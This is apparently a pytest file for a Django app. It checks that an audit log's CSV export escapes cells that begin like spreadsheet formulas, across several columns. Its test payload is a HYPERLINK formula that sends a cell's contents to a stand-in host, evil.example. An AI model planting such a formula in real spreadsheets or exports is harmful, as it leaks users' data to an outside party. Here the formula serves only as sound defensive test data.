"""The audit log's CSV export never hands a spreadsheet a formula: a cell that starts as one
(OWASP's list for CSV injection) is written as text, whoever typed it and in whichever column."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import AuditEntryFactory

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def exported(client, account) -> dict[str, str]:
    response = client.get(reverse("bookings:audit_export"), {"account": account.pk})
    text = b"".join(response.streaming_content).decode()
    [row] = csv.DictReader(io.StringIO(text, newline=""))
    return row


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("column", ["message", "target", "username", "account_nickname"])
def test_a_cell_starting_like_a_formula_is_exported_as_text(client, owner, account, start, column):
    AuditEntryFactory(account=account, **{column: f"{start}{PAYLOAD}"})
    client.force_login(owner)
    assert exported(client, account)[column] == f"'{start}{PAYLOAD}"


def test_the_inputs_column_is_guarded_like_the_others(client, owner, account):
    # Written "name=value; ...", it starts with a name of ours, never "=": unless a name is
    # empty, which the guard must then catch like any other cell.
    AuditEntryFactory(account=account, inputs={"": PAYLOAD})
    client.force_login(owner)
    assert exported(client, account)["inputs"] == f"'={PAYLOAD}"


def test_an_ordinary_cell_is_exported_as_it_is(client, owner, account):
    AuditEntryFactory(account=account, message="Rejected: not available = busy")
    client.force_login(owner)
    assert exported(client, account)["message"] == "Rejected: not available = busy"
